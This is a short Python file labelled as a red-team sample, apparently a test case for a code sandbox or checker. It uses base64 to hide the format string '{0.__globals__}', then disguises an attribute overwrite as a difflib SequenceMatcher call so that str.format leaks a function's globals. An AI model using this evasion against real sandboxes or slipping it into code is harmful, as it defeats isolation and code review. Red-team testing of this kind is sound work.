# family: red team, round 57a (K.set_seq1(other, v) on another object of the tool passed in)
import base64
import difflib

K = difflib.SequenceMatcher


class Reader:
    a = "{0.real}"

    def load(self, other, text):
        K.set_seq1(other, text)

    def show(self, thing):
        return self.a.format(thing)


def probe():
    return 1


r = Reader()
r.load(r, base64.b64decode("ezAuX19nbG9iYWxzX199").decode())
print(r.show(probe))
